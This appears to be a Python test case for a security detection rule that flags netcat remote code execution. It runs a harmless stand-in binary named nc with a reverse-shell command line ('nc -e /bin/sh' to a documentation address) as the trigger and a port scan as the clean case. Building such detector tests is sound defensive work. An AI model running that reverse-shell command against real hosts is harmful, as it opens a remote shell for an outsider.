"""Netcat remote code execution. No netcat is installed here, and the rule looks at the program
start only, so a copy of true named nc stands in; its address is a documentation one (RFC 5737)
and nothing connects. Trigger: nc -e /bin/sh ADDRESS 4444. Clean: nc -z ADDRESS 4444."""
import os
import shutil

RULE = "Netcat remote code execution"


def setup(w):
    os.makedirs(w.path("bin"), exist_ok=True)
    shutil.copy("/usr/bin/true", w.path("bin", "nc"))


def trigger(w):
    w.run(w.path("bin", "nc"), "-e", "/bin/sh", "198.51.100.7", "4444")


def clean(w):
    w.run(w.path("bin", "nc"), "-z", "198.51.100.7", "4444")
